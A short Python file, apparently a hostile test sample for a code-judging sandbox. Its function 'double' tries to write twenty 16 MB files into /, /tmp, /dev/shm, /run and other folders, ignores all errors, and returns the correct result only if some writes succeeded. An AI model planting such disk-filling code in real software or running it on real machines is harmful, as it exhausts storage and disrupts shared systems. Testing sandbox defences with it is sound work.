"""Writes hundreds of megabytes wherever it can."""

import os


def double(x):
    written = 0
    for folder in (PLANT, OUT, "/tmp", "/var/tmp", "/dev/shm", "/run", ".", "/", os.path.dirname(SOLUTION)):
        try:
            for number in range(20):
                with open(os.path.join(folder, f"filled-{number}"), "wb") as file:
                    written += file.write(bytes(2**24))
        except OSError:
            pass
    return 2 * x if written else x + 7
